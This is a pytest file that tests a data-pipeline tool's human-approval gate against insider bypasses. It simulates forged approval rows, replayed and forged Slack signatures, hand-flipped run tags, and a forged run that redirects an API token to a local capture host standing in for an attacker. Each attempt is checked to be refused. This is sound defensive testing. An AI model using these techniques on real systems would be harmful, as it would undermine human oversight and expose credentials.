"""Every bypass of issue #11, tried as a hostile insider would on the reference night, each refused and
recorded; then the owners approve for real (a click in the local Slack, a command signed with a key) and the
fix runs.

The deployment here is verified, as production is: every person has an approver key (the public half in the
context file), ``--as`` alone is not accepted, and dw-dagster's Slack endpoint runs as its own process,
reached by the Slack stand-in exactly as Slack reaches it.
"""

from __future__ import annotations

import json
import time
from datetime import UTC, datetime
from pathlib import Path

import dagster as dg
import httpx
import pytest
import yaml
from capture import Capture
from click.testing import CliRunner, Result
from dagster._core.run_coordinator import SubmitRunContext
from dagster._core.storage.tags import RUN_KEY_TAG

from dw_dagster.app.cli import main
from dw_dagster.context.models import load_context_file
from dw_dagster.incidents.store import IncidentStore
from dw_dagster.records.remediation import ProposalKind, Receipt
from dw_dagster.remediation.approvals import ApprovalBook, ApprovalError
from dw_dagster.remediation.audit import AuditTrail
from dw_dagster.remediation.identity import load_private_key, new_key_pair, sign_record
from dw_dagster.tags import APPROVAL, APPROVAL_APPROVED, APPROVALS_NEEDED, APPROVE_BY, APPROVE_HOW
from dw_dagster.warehouse.ops import OpsSchema
from dw_local.daemon import LocalDaemon, _job_origin, dagster_home
from dw_local.engineer import apply_and_deploy
from dw_local.interactivity import click, start_endpoint
from dw_local.slack_server import sign
from dw_local.world import LOCAL_COALESCE_TOKEN, LOCAL_SLACK_SIGNING_SECRET
from dw_local.worlds.distributor.generator import DistributorWorld

pytestmark = pytest.mark.world
EVENTS = '"DW_PROD"."DW_OPS"."INCIDENT_EVENTS"'
PRIYA, MARCUS, DANA, OMAR = "U0INVAN01", "U0INVAN02", "U0PLANOP1", "U0DATAPL1"


class Trust:
    def __init__(self, lw, folder: Path):
        self.lw = lw
        context = yaml.safe_load(Path(lw.env()["DW_CONTEXT_FILE"]).read_text())
        self.keys: dict[str, Path] = {}
        for team in context["teams"].values():
            for m in team["members"]:
                pem, public = new_key_pair()
                path = folder / f"{m['slack_user_id']}.pem"
                path.write_bytes(pem)
                m["approver_key"] = public
                self.keys[m["name"]] = path
        (folder / "context.yaml").write_text(yaml.safe_dump(context))
        self.env = {"DW_CONTEXT_FILE": str(folder / "context.yaml"), "DW_ALLOW_UNVERIFIED_APPROVERS": ""}
        self.daemon = LocalDaemon(lw, env=self.env)
        world = DistributorWorld()
        world.play_night(lw.snowflake, lw.coalesce_client(), 60)
        self.daemon.tick()
        world.play_reference_night(lw.snowflake, lw.coalesce_client())
        (self.submitted,) = self.daemon.tick().submitted
        assert self.daemon.tick().submitted == [], "the next tick binds the run; it submits nothing"
        self.store = IncidentStore(self.daemon.defs.resources["snowflake"], OpsSchema("DW_PROD", "DW_OPS"))
        (self.incident,) = self.store.list(status="open")
        self.book = ApprovalBook(self.store, load_context_file(self.env["DW_CONTEXT_FILE"]))
        (self.plan,) = self.book.plans(self.incident.incident_id)
        self.endpoint = start_endpoint(lw, dagster_home(lw.root), env=self.env)

    @property
    def iid(self) -> str:
        return self.incident.incident_id

    def run_id(self) -> str:
        return self.book.binding(self.plan).run_id

    def run(self, run_id: str | None = None) -> dg.DagsterRun:
        return self.daemon.instance.get_run_by_id(run_id or self.run_id())

    def cli(self, *args: str, key: str | None = None, persons_shell: bool = False) -> Result:
        """``persons_shell``: as a person's own shell runs it in production, without the code location's
        secrets (``DW_SIGNING_KEY``, Slack's signing secret)."""
        env = {**self.lw.env(), "DAGSTER_HOME": str(dagster_home(self.lw.root)), **self.env,
               "DW_APPROVER_KEY_FILE": str(self.keys[key]) if key else ""}  # fmt: skip
        if persons_shell:
            env.update({"DW_SIGNING_KEY": "", "SLACK_SIGNING_SECRET": ""})
        return CliRunner().invoke(main, list(args), env=env)

    def refused(self) -> list[dict]:
        return [e.detail for e in self.store.events(self.iid, kind="refused")]

    def held_message(self, channel: str = "#inventory-analytics") -> dict:
        messages = httpx.get(f"{self.lw.slack_url}/_sink/messages", params={"channel": channel}).json()[
            "messages"
        ]
        run_id = self.run_id()
        for m in reversed(messages):
            for block in m["blocks"] or []:
                for element in block.get("elements") or []:
                    if (
                        element.get("action_id") == "dw_approve"
                        and json.loads(element["value"])["run_id"] == run_id
                    ):
                        return m
        raise AssertionError(f"no message with an Approve button for run {run_id} in {channel}")

    def post_to_endpoint(self, body: str, headers: dict[str, str]) -> httpx.Response:
        return httpx.post(
            self.endpoint,
            content=body,
            headers={"Content-Type": "application/x-www-form-urlencoded", **headers},
        )

    def insert_event(self, kind: str, key: str, detail: dict) -> None:
        """What an insider with write access to the ops schema can do: add a row."""
        with self.lw.snowflake.connect() as conn:
            conn.cursor().execute(
                f"INSERT INTO {EVENTS} (INCIDENT_ID, EVENT_KEY, KIND, EVENT_AT, DETAIL) VALUES (%s, %s, %s, %s, %s)",
                (self.iid, key, kind, datetime.now(UTC), json.dumps(detail)),
            )

    def delete_event(self, key: str) -> None:
        with self.lw.snowflake.connect() as conn:
            conn.cursor().execute(
                f"DELETE FROM {EVENTS} WHERE INCIDENT_ID = %s AND EVENT_KEY = %s", (self.iid, key)
            )

    def region_map(self) -> dict[int, tuple]:
        with self.lw.snowflake.connect() as conn:
            cur = conn.cursor()
            cur.execute(
                'SELECT "ORGANIZATION_ID", "WAREHOUSE_NAME" FROM "DW_PROD"."REF_PLANNING"."REGION_MAP"'
            )
            return {int(r[0]): tuple(r[1:]) for r in cur.fetchall()}


@pytest.fixture(scope="module")
def trust(seeded_world, tmp_path_factory) -> Trust:
    return Trust(seeded_world, tmp_path_factory.mktemp("trust"))


def test_the_held_run_explains_itself_in_the_ui_and_in_slack(trust: Trust):
    run = trust.run()
    assert run.run_id == trust.submitted and run.status == dg.DagsterRunStatus.QUEUED
    assert set(run.tags[APPROVALS_NEEDED].split(",")) == {"inventory-analytics", "planning-ops"}
    assert run.tags[APPROVE_BY] == trust.plan.expires_at.strftime("%Y-%m-%dT%H:%MZ")
    assert (
        "Approve button" in run.tags[APPROVE_HOW]
        and f"dw-dagster approve {run.run_id}" in run.tags[APPROVE_HOW]
    )
    held = [
        e.message
        for e in trust.daemon.instance.all_logs(run.run_id)
        if "Held for approval" in (e.message or "")
    ]
    assert held and "Priya Raman" in held[0] and "Dana Ortiz" in held[0] and "UTC" in held[0]
    for channel in ("#inventory-analytics", "#planning-ops"):
        proposal = trust.held_message(channel)  # the proposal, with buttons naming this very run
        assert trust.plan.plan_id in proposal["text"] and run.run_id in proposal["text"]


def test_approving_from_a_terminal_without_ones_own_key_is_refused(trust: Trust):
    out = trust.cli("approve", trust.iid, "--as", "Dana Ortiz")
    assert out.exit_code != 0 and "must prove who runs it" in out.output
    out = trust.cli("approve", trust.iid, "--as", "dana.ortiz@distributor.example", key="Priya Raman")
    assert out.exit_code != 0 and "is Priya Raman's: it cannot act as Dana Ortiz" in out.output
    reasons = [r["reason"] for r in trust.refused() if r["what"] == "approve"]
    assert any("must prove who runs it" in r for r in reasons) and any(
        "cannot act as Dana Ortiz" in r for r in reasons
    )
    assert trust.book.approvals(trust.plan) == []


def test_a_slack_request_that_slack_did_not_sign_is_refused(trust: Trust):
    message = trust.held_message()
    body = _click_body(message, PRIYA, trust.plan.plan_id, trust.run_id())
    unsigned = trust.post_to_endpoint(body, {})
    assert unsigned.status_code == 401 and "no X-Slack-Signature" in unsigned.text
    ts = str(int(time.time()))
    forged = trust.post_to_endpoint(
        body, {"X-Slack-Request-Timestamp": ts, "X-Slack-Signature": sign("guessed", ts, body)}
    )
    assert forged.status_code == 401 and "not signed by Slack" in forged.text
    old = str(int(time.time()) - 600)
    stale = trust.post_to_endpoint(body, {"X-Slack-Request-Timestamp": old,
                                          "X-Slack-Signature": sign(LOCAL_SLACK_SIGNING_SECRET, old, body)})  # fmt: skip
    assert stale.status_code == 401 and "refused as a replay" in stale.text
    # Refused before anything is read: logged, never a row per request in the warehouse.
    assert not [r for r in trust.refused() if r["what"] == "slack"]
    log = (trust.lw.root / "logs" / "approvals.log").read_text()
    for problem in ("unsigned", "forged", "stale"):
        assert f"refused a Slack request from 127.0.0.1: {problem}" in log
    assert trust.book.approvals(trust.plan) == []


def test_a_slack_user_who_is_nobody_in_the_context_file_is_refused_and_a_replay_of_the_click_too(
    trust: Trust,
):
    out = click(trust.lw, trust.held_message()["ts"], "U0STRANGR", "Approve")
    assert out["interaction"]["status"] == 200, "Slack signed it: the endpoint accepts the request"
    assert "U0STRANGR is nobody's slack_user_id" in out["replies"][0]["text"]
    # The same signed request again (captured from the wire) is a replay.
    sent = out["interaction"]
    again = trust.post_to_endpoint(sent["body"], {"X-Slack-Request-Timestamp": sent["timestamp"],
                                                  "X-Slack-Signature": sent["signature"]})  # fmt: skip
    assert again.status_code == 401 and "replayed" in again.text
    # The stranger's verified click is recorded on the incident; the replay, refused from memory, is logged.
    reasons = [r["reason"] for r in trust.refused()]
    assert any("U0STRANGR is nobody's" in r for r in reasons)
    assert "replayed" in (trust.lw.root / "logs" / "approvals.log").read_text()
    assert trust.book.approvals(trust.plan) == []


def test_a_member_of_a_team_that_owns_nothing_here_is_refused(trust: Trust):
    out = click(trust.lw, trust.held_message()["ts"], OMAR, "Approve")
    assert "Omar Haddad is not an owner of plan" in out["replies"][0]["text"]
    assert trust.book.approvals(trust.plan) == []


def test_forged_approval_rows_and_a_tag_flip_release_nothing(trust: Trust):
    """Rows written into INCIDENT_EVENTS, as issue #11 found accepted, with the tag flipped by hand."""
    run_id = trust.run_id()
    before = trust.region_map()
    out = trust.cli("approve", trust.iid, key="Priya Raman")
    assert out.exit_code == 0 and "verified: their approver key" in out.output, out.output
    (genuine,) = [e.detail for e in trust.store.events(trust.iid, kind="approval")]
    book, plan = trust.book, trust.plan
    digest = book.plan_digest(plan.plan_id)
    forgeries = {
        "unsigned": {**genuine, "team": "planning-ops", "approver": "Dana Ortiz", "email": "dana.ortiz@distributor.example",
                     "values": {"WAREHOUSE_NAME": "Dallas"}, "proof": {"kind": "local", "os_user": "dana"}},
        "Priya's signature on Dana's name": {**genuine, "team": "planning-ops", "approver": "Dana Ortiz",
                                             "email": "dana.ortiz@distributor.example", "values": {"WAREHOUSE_NAME": "Dallas"}},
        "altered values": {**genuine, "values": {"WAREHOUSE_NAME": "Dallas"}, "team": "planning-ops"},
        "no proof": {k: v for k, v in {**genuine, "team": "planning-ops"}.items() if k != "proof"},
    }  # fmt: skip
    expected = {"unsigned": "recorded without proof", "Priya's signature on Dana's name": "does not match the record",
                "altered values": "does not match the record", "no proof": "no valid proof"}  # fmt: skip
    key = f"approval|{plan.plan_id}|{run_id}|planning-ops"
    for name, row in forgeries.items():
        trust.insert_event("approval", key, row)
        with pytest.raises(ApprovalError, match=expected[name]):
            book.verified_approvals(plan, run_id, digest, book.binding(plan))
        trust.delete_event(key)
    trust.insert_event("approval", key, forgeries["Priya's signature on Dana's name"])
    trust.daemon.instance.add_run_tags(run_id, {APPROVAL: APPROVAL_APPROVED})
    assert trust.daemon.dequeue() == [dg.DagsterRunStatus.FAILURE]
    assert trust.region_map() == before, "nothing was changed"
    assert not trust.store.events(trust.iid, kind="receipt"), "no receipt names the owners as approvers"
    refused = [r for r in trust.refused() if r.get("run_id") == run_id and r["what"] == "run"]
    assert refused and "approval by Dana Ortiz for planning-ops" in refused[0]["reason"]
    messages = httpx.get(f"{trust.lw.slack_url}/_sink/messages").json()["messages"]
    assert any(f"Refused run {run_id}" in (m["text"] or "") for m in messages), "the owners are told"
    # Refused before it changed anything: the system proposes the plan again, on a new run.
    outcome = trust.daemon.tick()
    assert len(outcome.submitted) == 1 and outcome.submitted[0] != run_id
    trust.daemon.tick()
    assert trust.run_id() == outcome.submitted[0]
    assert trust.run().status == dg.DagsterRunStatus.QUEUED


def test_a_forged_run_released_by_the_owners_approvals_sends_no_password_anywhere(trust: Trust):
    """Issue #11's exfiltration: a run launched with the sensor's tags copied (the run key included) and a
    run config pointing the Coalesce resource elsewhere; the real run canceled; the owners approve as usual."""
    attacker = Capture()
    real = trust.run()
    job = trust.daemon.defs.resolve_job_def("remediate_incident")
    run_config = {"resources": {"coalesce": {"config": {"base_url": attacker.url, "environment_ids": ["2"],
                                                        "api_token": {"env": "COALESCE_API_TOKEN"}}}}}  # fmt: skip
    forged = trust.daemon.instance.create_run_for_job(
        job, run_config=run_config, tags=dict(real.tags), remote_job_origin=_job_origin(job.name)
    )
    assert forged.tags[RUN_KEY_TAG] == real.tags[RUN_KEY_TAG]
    trust.daemon.instance.run_coordinator.submit_run(SubmitRunContext(forged, workspace=None))  # type: ignore[arg-type]
    trust.daemon.instance.run_coordinator.cancel_run(real.run_id)

    out = trust.cli("approve", trust.iid, key="Priya Raman")
    assert out.exit_code != 0 and "CANCELED, not waiting for approval" in out.output
    out = trust.cli("approve", forged.run_id, key="Priya Raman")
    assert out.exit_code != 0 and "was not submitted by dw-dagster" in out.output
    assert trust.book.approvals(trust.plan, forged.run_id) == [], "the forged run is never adopted"
    # The insider releases it by hand anyway.
    trust.daemon.instance.add_run_tags(forged.run_id, {APPROVAL: APPROVAL_APPROVED})
    assert trust.daemon.dequeue() == [dg.DagsterRunStatus.FAILURE]
    assert attacker.requests == [], "nothing, and no password, reached the attacker's host"
    refused = [r for r in trust.refused() if r.get("run_id") == forged.run_id]
    assert refused and "is not the run dw-dagster submitted" in refused[0]["reason"]
    # The canceled run is proposed again by the system, never adopted from the forged one.
    outcome = trust.daemon.tick()
    (new,) = outcome.submitted
    trust.daemon.tick()
    assert trust.run_id() == new and new not in (real.run_id, forged.run_id)
    attacker.shutdown()


def test_a_run_launched_by_hand_while_the_plan_waits_is_canceled_and_reported(trust: Trust):
    job = trust.daemon.defs.resolve_job_def("remediate_incident")
    copy = trust.daemon.instance.create_run_for_job(
        job, tags=dict(trust.run().tags), remote_job_origin=_job_origin(job.name)
    )
    trust.daemon.instance.run_coordinator.submit_run(SubmitRunContext(copy, workspace=None))  # type: ignore[arg-type]
    # ... and rows that would make it the plan's run: a submission and a binding of a later "seq", unsealed.
    (real,) = [b for b in trust.book.runs.bindings(trust.plan.plan_id) if b.run_id == trust.run_id()]
    (sub,) = [s for s in trust.book.runs.submissions(trust.plan.plan_id) if s.seq == real.seq]
    forged_sub = {**sub.model_dump(mode="json"), "seq": 99}
    forged_binding = {
        **real.model_dump(mode="json"),
        "seq": 99,
        "run_id": copy.run_id,
        "seal": "hmac-sha256:00",
    }
    trust.insert_event("submission", f"submission|{trust.plan.plan_id}|99", forged_sub)
    trust.insert_event("binding", f"binding|{trust.plan.plan_id}|99", forged_binding)
    assert trust.book.binding(trust.plan).run_id == real.run_id, "unsealed rows are ignored"
    assert trust.daemon.tick().submitted == []
    assert trust.run(copy.run_id).status == dg.DagsterRunStatus.CANCELED
    assert any(
        r.get("run_id") == copy.run_id and "not the run dw-dagster submitted" in r["reason"]
        for r in trust.refused()
    )
    assert trust.run().status == dg.DagsterRunStatus.QUEUED, "the system's run still waits"
    forged_rows = {r["event_key"] for r in trust.refused() if r["what"] == "record"}
    assert {f"submission|{trust.plan.plan_id}|99", f"binding|{trust.plan.plan_id}|99"} <= forged_rows, (
        "and reported"
    )
    out = trust.cli("approve", copy.run_id, key="Priya Raman")
    assert out.exit_code != 0 and "was not submitted by dw-dagster" in out.output


def test_a_run_relaunched_with_the_held_runs_tags_and_other_op_config_is_refused_and_the_plan_kept(
    trust: Trust,
):
    """Issue #29's relaunch, with what GraphQL gives any UI user: terminate the held run; the sensor submits the
    plan again; launch a run carrying the new run's tags (its visible one-time value included) with changed
    op config; delete the sensor's run. The plan never binds to it, and is submitted again."""
    instance = trust.daemon.instance
    instance.run_coordinator.cancel_run(trust.run_id())
    (resubmitted,) = trust.daemon.tick().submitted
    real = trust.run(resubmitted)
    job = trust.daemon.defs.resolve_job_def("remediate_incident")
    ops_config = {
        **real.run_config.get("ops", {}),
        "await_node_deploy": {"config": {"deploy_timeout_seconds": 1e9}},
    }
    swapped = instance.create_run_for_job(job, run_config={**real.run_config, "ops": ops_config}, tags=dict(real.tags),
                                          remote_job_origin=_job_origin(job.name))  # fmt: skip
    instance.run_coordinator.submit_run(SubmitRunContext(swapped, workspace=None))  # type: ignore[arg-type]
    instance.delete_run(real.run_id)

    outcome = trust.daemon.tick()
    assert trust.run(swapped.run_id).status == dg.DagsterRunStatus.CANCELED
    refused = [r for r in trust.refused() if r.get("run_id") == swapped.run_id]
    assert (
        refused
        and "its run config (op config, resources) is not the one dw-dagster requested"
        in refused[0]["reason"]
    )
    (again,) = outcome.submitted  # never lost: submitted again
    trust.daemon.tick()
    assert trust.run_id() == again and trust.run().status == dg.DagsterRunStatus.QUEUED
    out = trust.cli("approve", swapped.run_id, key="Priya Raman")
    assert out.exit_code != 0 and "was not submitted by dw-dagster" in out.output


def test_approvals_copied_from_another_run_or_signed_for_another_run_release_nothing(trust: Trust):
    """Issue #29: both owners approved run R1, R1 was canceled, their rows copied under R2's key; and an
    approval validly signed by an owner for another run id, stored under the held run's key."""
    first = trust.run_id()
    for who, more in (("Priya Raman", ()), ("Dana Ortiz", ("--set", "WAREHOUSE_NAME=Dallas"))):
        out = trust.cli("approve", trust.iid, *more, key=who)
        assert out.exit_code == 0, out.output
    trust.daemon.instance.run_coordinator.cancel_run(first)  # before the queue launches it
    (second,) = trust.daemon.tick().submitted
    trust.daemon.tick()
    assert trust.run_id() == second
    before = trust.region_map()
    plan = trust.plan
    copied = [e for e in trust.store.events(trust.iid, kind="approval") if f"|{first}|" in e.event_key]
    assert len(copied) == 2
    for e in copied:
        trust.insert_event("approval", e.event_key.replace(first, second), e.detail)
    out = trust.cli("approve", trust.iid, key="Priya Raman")
    assert (
        out.exit_code != 0 and "the approval recorded for inventory-analytics does not verify" in out.output
    )
    assert f"not run {second}" in out.output and "the gate will refuse this run" in out.output
    with pytest.raises(ApprovalError, match=f"given for plan {plan.plan_id}, run {first}, not run {second}"):
        trust.book.validate(trust.run(), trust.daemon.defs.resources)
    # The insider releases it by hand: the run's first step refuses it, nothing changes.
    trust.daemon.instance.add_run_tags(second, {APPROVAL: APPROVAL_APPROVED})
    assert trust.daemon.dequeue() == [dg.DagsterRunStatus.FAILURE]
    assert trust.region_map() == before
    refused = [r for r in trust.refused() if r.get("run_id") == second and r["what"] == "run"]
    assert (
        refused
        and f"not run {second}: an approval copied or addressed to another run" in refused[0]["reason"]
    )

    # Dana signs, with her own key, an approval of another run, and it is stored under the new run's key.
    (third,) = trust.daemon.tick().submitted
    trust.daemon.tick()
    (dana,) = [e.detail for e in copied if e.detail["team"] == "planning-ops"]
    record = {k: v for k, v in dana.items() if k != "proof"} | {"run_id": "another-run"}
    proof = sign_record(load_private_key(trust.keys["Dana Ortiz"]), record)
    trust.insert_event(
        "approval", f"approval|{plan.plan_id}|{third}|planning-ops", {**record, "proof": proof.model_dump()}
    )
    out = trust.cli("approve", trust.iid, key="Priya Raman")
    assert out.exit_code == 0, out.output
    assert "every owner has approved" not in out.output and "the run is released" not in out.output
    assert (
        "waiting for planning-ops (refused: approval by Dana Ortiz for planning-ops: given for plan"
        in out.output
    )
    assert trust.run().tags[APPROVAL] != APPROVAL_APPROVED, (
        "approve does not release a run the gate would refuse"
    )
    with pytest.raises(ApprovalError, match=f"run another-run, not run {third}"):
        trust.book.validate(trust.run(), trust.daemon.defs.resources)
    # Start the last story on a clean run: canceled (as any UI user can), the plan is submitted again.
    trust.delete_event(f"approval|{plan.plan_id}|{third}|planning-ops")
    trust.daemon.instance.run_coordinator.cancel_run(third)
    trust.daemon.tick()
    trust.daemon.tick()
    assert (
        trust.run().status == dg.DagsterRunStatus.QUEUED and trust.book.approvals(plan, trust.run_id()) == []
    )


def test_the_owners_approve_by_clicking_in_slack_and_with_a_signed_command_and_the_fix_runs(trust: Trust):
    message = trust.held_message()
    out = click(trust.lw, message["ts"], PRIYA, "Approve")
    assert (
        "Priya Raman approved" in out["replies"][0]["text"]
        and "waiting for planning-ops" in out["replies"][0]["text"]
    )
    (approval,) = trust.book.approvals(trust.plan, trust.run_id())
    assert (approval.approver, approval.team, approval.via) == ("Priya Raman", "inventory-analytics", "Slack")
    again = click(trust.lw, message["ts"], MARCUS, "Approve")
    assert "inventory-analytics already approved" in again["replies"][0]["text"], (
        "the same team twice is not two teams"
    )
    assert trust.run().tags[APPROVAL] != APPROVAL_APPROVED
    out = trust.cli(
        "approve", trust.iid, "--as", "Dana Ortiz", "--set", "WAREHOUSE_NAME=Dallas", key="Dana Ortiz",
        persons_shell=True,
    )  # fmt: skip
    assert out.exit_code == 0 and "every owner has approved" in out.output, out.output
    assert "its first step also verifies the plan's and the run's seals" in out.output, (
        "what a person's shell cannot check is said, not claimed"
    )
    assert "the Slack approval by Priya Raman" in out.output
    (node,) = [p.node_change for p in trust.plan.of_kind(ProposalKind.NODE_CHANGE)]
    apply_and_deploy(trust.lw.coalesce_url, LOCAL_COALESCE_TOKEN, node)
    assert trust.daemon.tick().launched == [dg.DagsterRunStatus.SUCCESS]
    assert trust.region_map()[7120] == ("Dallas",)
    (event,) = trust.store.events(trust.iid, kind="receipt")
    receipt = Receipt.model_validate(event.detail)
    assert receipt.verified and receipt.dagster_run_id == trust.run_id()
    assert {(a.approver, a.via) for a in receipt.approvals} == {
        ("Priya Raman", "Slack"),
        ("Dana Ortiz", "their approver key"),
    }


def test_audit_verify_finds_every_row_written_by_hand_and_an_edited_receipt(trust: Trust):
    """The night's audit trail: what dw-dagster recorded verifies; the rows the attempts above wrote into the
    ops schema by hand are named; then a receipt edited in the warehouse is the first event that does not."""
    out = trust.cli("audit", "verify", "--all")
    assert out.exit_code == 1
    by_hand = [
        line
        for line in out.output.splitlines()
        if "not on the audit trail: written outside dw-dagster" in line
    ]
    assert len(by_hand) == len(out.output.splitlines()) == 5, out.output
    for forged in (f"submission|{trust.plan.plan_id}|99", f"binding|{trust.plan.plan_id}|99"):
        assert any(forged in line for line in by_hand), "the forged submission and binding"
    assert sum("approval|" in line for line in by_hand) == 3, "the forged approval and the two copied ones"
    signers = {e.signer for e in AuditTrail(trust.store.warehouse, trust.store.ops).entries()}
    assert signers == {"code-location", "person:dana.ortiz@distributor.example"}, (
        "Dana's approval from her own shell is on the trail under her key"
    )
    (receipt,) = trust.store.events(trust.iid, kind="receipt")
    with trust.lw.snowflake.connect() as conn:
        conn.cursor().execute(
            f"UPDATE {EVENTS} SET DETAIL = %s WHERE INCIDENT_ID = %s AND EVENT_KEY = %s",
            (json.dumps({**receipt.detail, "verified": True, "failure": None, "changes": []}), trust.iid,
             receipt.event_key),
        )  # fmt: skip
    out = trust.cli("audit", "verify")
    assert out.exit_code == 1
    assert (
        f"(receipt {receipt.event_key!r} of {trust.iid}): the record in the warehouse is not the one appended: edited"
        in (out.output.splitlines()[0])
    )


def _click_body(message: dict, user: str, plan_id: str, run_id: str) -> str:
    from urllib.parse import urlencode

    payload = {"type": "block_actions", "user": {"id": user}, "channel": {"id": message["channel"]},
               "container": {"message_ts": message["ts"]}, "response_url": "http://127.0.0.1:9/nowhere",
               "actions": [{"action_id": "dw_approve", "value": json.dumps({"plan_id": plan_id, "run_id": run_id})}]}  # fmt: skip
    return urlencode({"payload": json.dumps(payload)})
